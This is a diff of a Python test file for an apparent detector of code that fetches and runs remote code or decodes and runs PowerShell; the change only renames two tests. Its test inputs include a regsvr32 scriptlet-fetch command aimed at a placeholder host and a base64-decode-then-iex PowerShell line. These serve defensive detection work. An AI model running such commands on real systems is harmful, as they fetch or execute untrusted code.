@@ -50,7 +50,7 @@ def facts_of(code: str, act: Act) -> list[Fact]:
         f"regsvr32 /s /n /u /i:{URL} scrobj.dll",
     ],
 )  # fmt: skip
-def test_what_is_fetched_and_run_is_remote_code(code: str) -> None:
+def test_fetched_code_that_is_run_is_remote_code(code: str) -> None:
     found = facts_of(code, Act.RUN_REMOTE)
 
     assert {(f.host, f.host_class) for f in found} == {("get.example-tools.dev", HostClass.UNKNOWN)}
@@ -81,7 +81,7 @@ def test_fetching_alone_is_not_running(code: str) -> None:
         f"$b='{UTF8}'\n$t=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b))\niex $t",
     ],
 )
-def test_what_is_decoded_and_run_is_shown_and_read(code: str) -> None:
+def test_decoded_code_that_is_run_is_shown_and_read(code: str) -> None:
     found = read_powershell(code)
 
     assert [f.detail for f in found if f.act is Act.RUN_DECODED] == [INNER]
